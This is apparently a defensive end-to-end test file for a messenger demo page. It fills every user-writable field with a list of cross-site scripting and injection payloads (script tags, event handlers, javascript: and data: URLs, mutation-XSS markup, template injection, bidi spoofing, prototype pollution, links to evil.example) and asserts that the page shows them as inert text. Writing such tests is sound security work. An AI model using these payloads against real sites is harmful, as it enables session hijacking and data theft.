"""A stranger writes into every field that he can fill what a careless page would run. The demo shows it as the text that it is:
nothing runs, nothing is fetched from elsewhere, and no element, attribute or address of his is in the page."""

import io
import json
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from typing import Any
from urllib.parse import quote

import aiohttp
import asyncpg
import pytest
import redis.asyncio
from playwright.async_api import expect

from messenger.transport.headers import SECURITY_HEADERS
from tests.e2e.conftest import Stage
from tests.e2e.test_attachments import picture
from tests.e2e.test_demo import listed
from tests.support.database import Database, Servers
from tests.support.node import FREE, Cluster
from tests.support.people import Client, token
from tests.support.reachable import SECRET

ALICE = 1
PICTURE = picture()
PAYLOADS = [
    "<script>__pwned='script'</script>",
    "<img src=x onerror=__pwned=1>",
    "<svg onload=__pwned='svg'><script>__pwned='inner'</script></svg>",
    '"><iframe srcdoc="<script>parent.__pwned=\'frame\'</script>"></iframe>',
    "' onmouseover='__pwned=1' autofocus onfocus='__pwned=2' x='",
    '" onload="__pwned=1" style="position:fixed;inset:0" x="',
    "javascript:__pwned='address'//https://evil.example/",
    "<a href=javascript:__pwned='link' target=_top>click</a>",
    'https://evil.example/"onmouseover="__pwned=\'url\'"//<b>',
    "</textarea></title></style></script><base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "<math><mtext><table><mglyph><style><!--</style><img src=https://evil.example/x onerror=__pwned=1>",
    "{{constructor.constructor('__pwned=1')()}}${__pwned=2}#{__pwned=3}<%= __pwned=4 %>",
    "&lt;img src=x onerror=__pwned=1&gt;&#x3c;script&#x3e;__pwned=2",
    "data:text/html,<script>__pwned='data'</script>",
    "\u202e<b>dloB</b>\u2066 https://evil.example/\u202egnp.exe\u2069\u200f",
    "__proto__",
    "<form action=https://evil.example/><input name=q autofocus><button>" + "Long" * 900,
]
TURNS = str.maketrans("", "", "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")

# Everything that the page is made of: whatever else is in it was put there by somebody else.
INSPECT = r"""() => {
  const tags = new Set(("html head meta title link script body noscript main div aside header footer nav section article span"
    + " strong button a ul ol li h1 h2 h3 p form textarea dialog time svg path bdi i details summary pre img label code"
    + " input select option dl dt dd").split(" "));
  const names = new Set(("id class type hidden role title tabindex dir lang name content media charset rel href src alt target rows"
    + " open placeholder enterkeyhint disabled datetime d viewBox draggable decoding referrerpolicy for autocomplete autofocus"
    + " spellcheck required maxlength value inert multiple").split(" "));
  // How large something is, and where: which the page says of rows of its own, of pictures in them and of the field.
  const PLACED = /^((height|top|overflow-y|width|aspect-ratio): [-\w./ ]+;\s?)+$/;
  const strange = [];
  for (const element of document.querySelectorAll("*")) {
    const tell = (what) => strange.push(`${what}: ${element.cloneNode(false).outerHTML}`);
    if (!tags.has(element.localName)) tell("element");
    for (const { name, value } of element.attributes) {
      if (name === "style" ? !PLACED.test(value) : !names.has(name) && !/^(aria|data)-[a-z-]+$/.test(name)) tell(name);
      if ((name === "href" || name === "src") && !/^(\.\/|demo\/[a-z.]+|https?:\/\/\S+)$/.test(value)) tell(name);
    }
    if (element.localName === "img" && !["picture", "shot-image"].includes(element.className)) tell("image");
    if (element.localName === "a" && element.id !== "switch-user" && !element.closest(".content, .attachment, .ways")) tell("link");
  }
  for (const [what, count] of Object.entries({ script: 1, link: 8, form: 1, "textarea:not(.token-field)": 1 })) {
    const found = document.querySelectorAll(what).length;
    if (found > count) strange.push(`${found} of ${what}`);
  }
  if (window.__pwned !== undefined) strange.push(`ran: ${window.__pwned}`);
  if (Object.keys(Object.prototype).length > 0) strange.push("prototype");
  return [...strange, ...(window.__tried ?? [])];
}"""
# What no payload may even try: the policy is the second fence, and not what this is about. A picture that could not be had is
# gone at once.
LISTEN = """window.__tried = [];
addEventListener("securitypolicyviolation", (event) => __tried.push(`${event.violatedDirective} ${event.blockedURI}`));
new MutationObserver((changes) => {
  for (const node of changes.flatMap(({ addedNodes }) => [...addedNodes]))
    for (const image of node.querySelectorAll?.("img") ?? [])
      if (!image.getAttribute("src").startsWith("https://pictures.example/")) __tried.push(image.outerHTML);
}).observe(document, { subtree: true, childList: true });"""
OVERFLOWING = """() => ["html", "#scroller", ".sidebar-body", "#frames:not([hidden])", "#dialog[open]", ".people", ".toast"]
  .filter((place) => [...document.querySelectorAll(place)].some((it) => it.scrollWidth > it.clientWidth + 1))"""


class Victim:
    """A window, and everything that happens in it which must not."""

    def __init__(self, page: Any, origin: str) -> None:
        self.page = page
        self.happened: list[str] = []
        page.on("dialog", lambda dialog: self.happened.append(f"dialog {dialog.message}"))
        page.on("popup", lambda popup: self.happened.append(f"popup {popup.url}"))
        page.on("framenavigated", lambda frame: self._stays(frame.url, origin))
        page.on("request", lambda request: self._stays(request.url, origin))
        page.on("websocket", lambda socket: self._stays(socket.url, origin.replace("http", "ws", 1)))

    def _stays(self, url: str, origin: str) -> None:
        # A picture may be anywhere, and is fetched as a picture.
        if not url.startswith((f"{origin}/", "https://pictures.example/")) and url != "about:blank":
            self.happened.append(f"went to {url}")

    async def is_unharmed(self) -> None:
        assert await self.page.evaluate(INSPECT) == []
        assert self.happened == []


@pytest.fixture
async def stage(cluster: Cluster, browser: Any) -> AsyncIterator[Stage]:
    """The demo where a token is wanted: names and pictures come with tokens."""
    async with AsyncExitStack() as stack:
        stage = Stage(await cluster.node(**FREE, demo=True), browser, stack)
        yield stage
        assert stage.complaints == []


async def page_of(stage: Stage, path: str = "/", **options: Any) -> Victim:
    page = await stage.page(**options)
    await page.add_init_script(LISTEN)
    await page.route("https://pictures.example/**", lambda route: route.fulfill(body="", content_type="image/png"))
    victim = Victim(page, stage.node.origin)
    await page.goto(stage.node.origin + path)
    return victim


async def sign_in(stage: Stage, user_id: int, **options: Any) -> Victim:
    victim = await page_of(stage, **options)
    await victim.page.get_by_test_id("token").fill(token(user_id, SECRET, name="Alice"))
    await victim.page.get_by_test_id("token-submit").click()
    await expect(victim.page.get_by_test_id("connection")).to_have_attribute("data-status", "online")
    return victim


async def write_everywhere(stage: Stage, stranger: int, text: str) -> str:
    """Whatever a user can fill over socket and REST, filled with `text` as far as it goes in there."""
    claims = {"name": text[:200], "picture": "https://pictures.example/" + "".join(text.split())[:2000]}
    client = stage.node.client(stranger, **claims)
    phone = await stage.node.phone(stranger, device="".join(c for c in text if c.isalnum())[:64], **claims)
    free = {text[:500]: text, "nested": [{"deep": text}], "__proto__": {"polluted": text}}
    talk = await client.group(ALICE, title=text[:200], metadata=free)
    for title in (text[:199] + ".", text[:200]):
        status, told = await client.patch(f"/conversations/{talk}", {"title": title, "metadata": {"again": free}})
        assert status == 200, told
    await client.post(f"/conversations/{talk}/participants", {"user_ids": [stranger + 1000], "role": "observer"})
    uploads = [await upload(client, text, body) for body in (PICTURE, b"text")]
    sent = await phone.ask(
        "message.send",
        conversation_id=talk,
        content=text,
        message_type=text[:64],
        client_id=text[:64],
        mentions=[ALICE],
        attachments=[
            *uploads,
            {"url": "https://evil.example/" + "".join(text.split())[:900], "name": text[:255], "mime_type": text[:127]},
            {"url": "/" + "".join(text.split())[:900], "name": text[:255]},
        ],
        metadata=free,
    )
    assert sent["type"] == "message.sent", sent
    reply = await phone.ask("message.send", conversation_id=talk, content="…", reply_to=sent["message_id"])
    assert (await phone.ask("message.edit", message_id=reply["message_id"], content=text + "!"))["type"] == "ack"
    assert (await phone.ask("reaction.add", message_id=sent["message_id"], emoji=text[:32]))["type"] == "ack"
    gone = await client.send(talk, text, client_id=f"second {text}"[:64])
    await client.delete(f"/messages/{gone['id']}")
    return talk


async def upload(client: Client, name: str, body: bytes) -> dict[str, str]:
    """A file that is called so, as a browser says it."""
    form = aiohttp.FormData(quote_fields=False)
    said = name[:200].replace('"', "%22")
    form.add_field("file", io.BytesIO(body), filename=said)
    answer = await client.ask("POST", "/attachments", data=form)
    assert answer.status == 201, answer.text
    return {"url": str(answer.body["url"])}


def shown(text: str) -> str:
    """A name or title, without what turns its surroundings round."""
    return text.translate(TURNS).strip()


# A file may be called what its reader says is no name; that is silenced where it runs.
@pytest.mark.filterwarnings("ignore::aiohttp.BadContentDispositionHeader", "ignore::aiohttp.BadContentDispositionParam")
async def test_what_strangers_write_is_text_everywhere(stage: Stage, database: Database) -> None:
    talks = [await write_everywhere(stage, 100 + number, text) for number, text in enumerate(PAYLOADS)]
    # As a picture too, though the daemon takes no such address: the page looks for itself. One keeps his that is one.
    connection = await asyncpg.connect(database.admin_url)
    for number, text in enumerate(PAYLOADS):
        if number != 1 and not text.startswith("https://"):
            await connection.execute("update messenger.users set avatar_url = $2 where id = $1", 100 + number, text)
    await connection.close()

    alice = await sign_in(stage, ALICE)
    page = alice.page
    await page.get_by_test_id("frames-toggle").click()
    for number, (talk, text) in enumerate(zip(talks, PAYLOADS, strict=True)):
        row = page.locator(f'[data-testid="conversation"][data-conversation-id="{talk}"]')
        assert await row.locator(".conversation-name").text_content() == shown(text[:200])
        await row.click()
        title = page.get_by_test_id("conversation-title")
        await expect(title).to_have_text(shown(text[:200]))
        contents = page.get_by_test_id("message-content")
        await expect(contents).to_have_count(6)
        told = await contents.all_text_contents()
        name = text[:200].strip()
        assert told[0] == shown(f"{name} changed the title to {text[:199]}.")
        assert told[3:] == [text, text + "!", "This message was deleted"]
        assert await page.locator(".sender").all_text_contents() == [shown(name)]
        assert await page.locator(".reaction").all_text_contents() == [text[:32]]
        await expect(page.get_by_test_id("picture")).to_have_attribute("data-state", "shown")
        of_file = await page.get_by_test_id("file").locator(".attachment-name").text_content()
        assert of_file == await page.get_by_test_id("picture").get_attribute("title")
        assert not set(str(of_file)) & set("\u202e\u2066\u2069")
        await alice.is_unharmed()

        # While she looks: typing, a new profile, another message.
        phone = await stage.node.phone(100 + number, name=text[:200])
        await phone.say("typing.start", conversation_id=talk)
        await expect(page.locator(".typing-words")).to_have_text(f"{shown(name)} is typing")
        await phone.say("message.send", conversation_id=talk, content=text, client_id=f"third {text}"[:64])
        await expect(contents).to_have_count(7)
        assert await row.locator("bdi").all_text_contents() == [f"{shown(name)}: ", text]
        await page.get_by_test_id("message").last.hover()
        await page.get_by_test_id("participants").click()
        people = page.get_by_test_id("participant")
        assert await people.locator(".person-name").all_text_contents() == [
            shown(name),
            "Alice",
            f"User {1100 + number}",
        ]
        await alice.is_unharmed()
        await page.get_by_test_id("cancel").click()

    await page.get_by_test_id("new-conversation").click()
    names = set(await page.get_by_test_id("person").locator(".person-name").all_text_contents())
    assert {shown(text[:200].strip()) for text in PAYLOADS} <= names
    await alice.is_unharmed()
    await page.get_by_test_id("cancel").click()
    # Every frame that came, unfolded and coloured. Beside the participants there was no room for them.
    await page.get_by_test_id("frames-toggle").click()
    await page.evaluate("document.querySelectorAll('.frame summary').forEach((summary) => summary.click())")
    await expect(page.locator(".frame-json").first.locator(".json-key").first).to_be_visible()
    await alice.is_unharmed()


async def test_a_link_goes_where_it_says(stage: Stage) -> None:
    """What is made a link is the address that is read, and nothing after a quote or a turn of direction."""
    mallory = stage.node.client(2, name="Mallory")
    talk = await mallory.group(ALICE)
    for text in (
        'see https://good.example/a?b=c"onclick=alert(1) and javascript:alert(1)',
        "\u202ehttps://good.example/\u202egnp.exe",
        "http://good.example/<script>",
        "hxxps://good.example data:text/html,x //good.example HTTPS://good.example",
    ):
        await mallory.send(talk, text)
    alice = await sign_in(stage, ALICE)
    await listed(alice.page, "Tea").click()
    links = alice.page.get_by_test_id("message-content").locator("a")
    await expect(links).to_have_count(3)
    addresses = ["https://good.example/a?b=c", "https://good.example/", "http://good.example/"]
    assert await links.all_text_contents() == addresses
    assert await links.evaluate_all("links => links.map((link) => link.href)") == addresses
    assert await links.evaluate_all("links => [...new Set(links.map((link) => link.rel + link.target))]") == [
        "noopener noreferrer nofollow_blank"
    ]
    isolated = "links => links.map((link) => getComputedStyle(link).unicodeBidi + getComputedStyle(link).direction)"
    assert set(await links.evaluate_all(isolated)) == {"isolateltr"}
    await alice.is_unharmed()


async def test_what_turns_text_round_stays_within_its_own_words(stage: Stage) -> None:
    turn = "\u202eevE"
    eve = stage.node.client(2, name=f"{turn}\u2069\u202e")
    talk = await eve.group(ALICE, title=turn)
    await eve.send(talk, f"{turn} \u2067 olleh")
    alice = await sign_in(stage, ALICE)
    row = listed(alice.page, "evE")
    await row.click()
    content = alice.page.get_by_test_id("message-content").last
    assert await content.text_content() == f"{turn} \u2067 olleh"
    isolation = "places => places.map((place) => getComputedStyle(place).unicodeBidi)"
    assert set(await alice.page.locator(".content, .preview bdi, .conversation-name").evaluate_all(isolation)) == {
        "isolate"
    }
    chrome = await alice.page.locator(".sender, #title, .conversation-name, .preview-by").all_text_contents()
    assert set(chrome) == {"evE", "evE: "}
    await alice.page.get_by_test_id("frames-toggle").click()
    frame = alice.page.locator('[data-testid="frame"][data-direction="in"][data-type="history"] pre')
    assert "\\u202eevE" in str(await frame.text_content())
    assert not set(str(await frame.text_content())) & set("\u202e\u2067\u2069")


@pytest.mark.parametrize("width", [390, 1180])
async def test_words_without_an_end_break_nothing(stage: Stage, width: int) -> None:
    word = "W" * 200
    eve = stage.node.client(2, name=word)
    talk = await eve.group(ALICE, title=word)
    sent = await eve.send(talk, "W" * 4000)
    await eve.send(talk, "https://good.example/" + "W" * 3000)
    phone = await stage.node.phone(2, name=word)
    await phone.ask("reaction.add", message_id=sent["id"], emoji="W" * 32)
    await eve.patch(f"/conversations/{talk}", {"title": word})
    alice = await sign_in(stage, ALICE, viewport={"width": width, "height": 800})
    page = alice.page
    assert await page.evaluate(OVERFLOWING) == []
    await listed(page, word).click()
    await expect(page.locator(".reaction")).to_be_visible()
    await phone.say("typing.start", conversation_id=talk)
    await expect(page.get_by_test_id("typing")).to_be_visible()
    assert await page.evaluate(OVERFLOWING) == []
    await page.get_by_test_id("participants").click()
    assert await page.evaluate(OVERFLOWING) == []


async def test_only_the_page_itself_may_show_foreign_pictures(stage: Stage) -> None:
    """And nothing on it may turn text into elements or code: the second fence, should the first ever fall."""
    policies = [
        (await stage.node.nobody().ask("GET", path)).headers.getall("Content-Security-Policy")
        for path in ("//", "//demo/config.json", "//healthz")
    ]
    general = SECURITY_HEADERS["Content-Security-Policy"]
    assert "https:" not in general
    of_page = general.replace("img-src 'self' data:", "img-src 'self' data: blob: https:")
    assert policies == [
        [f"{of_page}; require-trusted-types-for 'script'; trusted-types 'none'"],
        [general],
        [general],
    ]


async def test_a_token_of_markup_is_only_a_bad_token(stage: Stage) -> None:
    alice = await page_of(stage)
    for text in PAYLOADS[:3]:
        await alice.page.get_by_test_id("token").fill(text)
        await alice.page.get_by_test_id("token-submit").click()
        await expect(alice.page.locator("#refusal")).to_have_text("The server did not accept that token.")
        await alice.is_unharmed()


async def test_the_address_is_no_way_in(stage: Stage, cluster: Cluster) -> None:
    await stage.node.client(2, name="Eve").group(ALICE)
    texts = [*PAYLOADS[:4], "//evil.example/", "https://evil.example", "javascript:__pwned=1", "..", "%2e%2e%2f"]
    for text in texts:
        visitor = await page_of(stage, f"/?user={quote(text)}#{quote(text)}")
        await visitor.page.get_by_test_id("token").wait_for()
        await visitor.is_unharmed()
        await visitor.page.close()
    # What it opens is no conversation.
    alice = await sign_in(stage, ALICE)
    for text in texts:
        await alice.page.evaluate("hash => { location.hash = hash }", text)
        await expect(alice.page.get_by_test_id("toast").last).to_have_text("Invalid conversation_id format")
        await expect(alice.page.locator("#nothing-open")).to_be_visible()
        await alice.is_unharmed()
    # Without tokens the address says who one is: an integer, or nobody.
    open_to_all = Stage(await cluster.node(auth="off", jwt_secret="", demo=True), stage.browser, stage.stack)
    for text in texts:
        visitor = await page_of(open_to_all, f"/?user={quote(text)}#{quote(text)}")
        await expect(visitor.page.get_by_test_id("user-pick")).to_have_count(4)
        await visitor.is_unharmed()
        await visitor.page.close()
    assert open_to_all.complaints == []


async def refuse(page: Any, words: str) -> None:
    """Let the next attempt at a conversation be refused with these words."""

    async def answer(route: Any) -> None:
        await route.fulfill(status=403, body=json.dumps({"code": "forbidden", "detail": words}))

    await page.route("**/conversations", answer, times=1)


async def test_what_the_server_says_is_text_as_well(stage: Stage, cluster: Cluster, servers: Servers) -> None:
    """A refusal may quote what somebody wrote, and a host application sends frames of its own to a user's devices."""
    await stage.node.client(2, name="Eve").group(ALICE)
    alice = await sign_in(stage, ALICE)
    page = alice.page
    await page.get_by_test_id("frames-toggle").click()
    for text in PAYLOADS:
        await refuse(page, text)
        await page.get_by_test_id("new-conversation").click()
        await page.get_by_test_id("person").click()
        await expect(page.get_by_test_id("toast").last).to_have_text(text)
        assert await page.evaluate(OVERFLOWING) == []
        frame = {
            "type": f"app.{text}",
            "event": text,
            "code": text,
            "seq": text,
            "change": text,
            "conversation_id": text,
        }
        async with redis.asyncio.from_url(servers.redis_url) as host:
            await host.publish(f"{cluster.prefix}user:{ALICE}", json.dumps(frame))
        await expect(page.locator(".frame-type").first).to_have_text(f"app.{text} {text}")
        await alice.is_unharmed()
    # The browser says itself that requests were refused.
    stage.complaints = [complaint for complaint in stage.complaints if "status of 403" not in complaint]
